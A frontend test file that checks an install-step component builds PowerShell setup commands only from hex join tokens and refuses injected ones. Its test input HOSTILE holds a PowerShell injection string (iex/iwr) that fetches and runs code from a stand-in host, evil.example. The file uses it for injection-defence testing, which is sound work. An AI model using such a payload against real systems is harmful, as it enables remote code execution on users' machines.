import { afterEach, describe, expect, it, vi } from 'vitest';
import { fireEvent, screen, waitFor } from '@testing-library/react';
import { renderWithProviders } from '@/testing/render';
import { InstallStep } from './install-step';
import { REFUSED_SERVER_TOKEN, REFUSED_URL_TOKEN, RESOURCE_ID_LABEL } from './join-token';
import { kindById, type ResourceKind } from './kinds';
import type { DiscoverSearch } from './discover-search';

const TOKEN = '2c6f8e0a4b1d3f5e7a9c1b3d5f7e9a0c';
const HOSTILE = "x(iex(iwr('evil.example')))";
const exp = () => new Date(Date.now() + 3_600_000).toISOString();

function renderStep(search: DiscoverSearch, id = 'desktop') {
  const patch = vi.fn();
  renderWithProviders(
    <InstallStep
      kind={kindById(id) as ResourceKind}
      search={{ kind: id as DiscoverSearch['kind'], step: 'install', ...search }}
      clusterId="root"
      patch={patch}
      next={() => {}}
      report={() => {}}
    />,
  );
  return patch;
}

function stubToken(id: string) {
  vi.stubGlobal(
    'fetch',
    async () =>
      new Response(JSON.stringify({ id, expiry: exp(), method: 'token', suggestedLabels: [{ name: RESOURCE_ID_LABEL, value: 'r-1' }] }), {
        status: 200,
        headers: { 'Content-Type': 'application/json' },
      }),
  );
}

afterEach(() => vi.unstubAllGlobals());

describe('InstallStep and the join token', () => {
  it('shows the PowerShell commands of a token from the URL, its URL single-quoted', () => {
    renderStep({ token: TOKEN, rid: 'r-1', exp: exp() });
    const block = screen.getByTestId('install-command');
    expect(block.textContent).toContain(
      `-Uri 'https://${window.location.host}/webapi/scripts/desktop-access/configure/${TOKEN}/configure-ad.ps1'`,
    );
    expect(screen.queryByText(REFUSED_URL_TOKEN)).toBeNull();
  });

  for (const id of ['desktop', 'server', 'postgres-self']) {
    it(`refuses a non-hex token from the URL with a message, and builds no command from it (${id})`, () => {
      renderStep({ token: HOSTILE, rid: 'r-1', exp: exp() }, id);
      expect(screen.getByRole('alert').textContent).toContain(REFUSED_URL_TOKEN);
      expect(screen.queryByTestId('install-command')).toBeNull();
      expect(document.body.textContent).not.toContain('iex');
      expect(screen.getByRole('button', { name: 'Generate the command' })).toBeTruthy();
    });
  }

  it('refuses a non-hex token in the server’s answer: not written to the URL, said in place', async () => {
    stubToken(HOSTILE);
    const patch = renderStep({});
    fireEvent.click(screen.getByRole('button', { name: 'Generate the command' }));
    await waitFor(() => expect(screen.getByRole('alert').textContent).toContain(REFUSED_SERVER_TOKEN));
    expect(patch).not.toHaveBeenCalled();
  });

  it('writes a hex token from the server’s answer to the URL', async () => {
    stubToken(TOKEN);
    const patch = renderStep({});
    fireEvent.click(screen.getByRole('button', { name: 'Generate the command' }));
    await waitFor(() => expect(patch).toHaveBeenCalledWith(expect.objectContaining({ token: TOKEN, rid: 'r-1' })));
  });
});
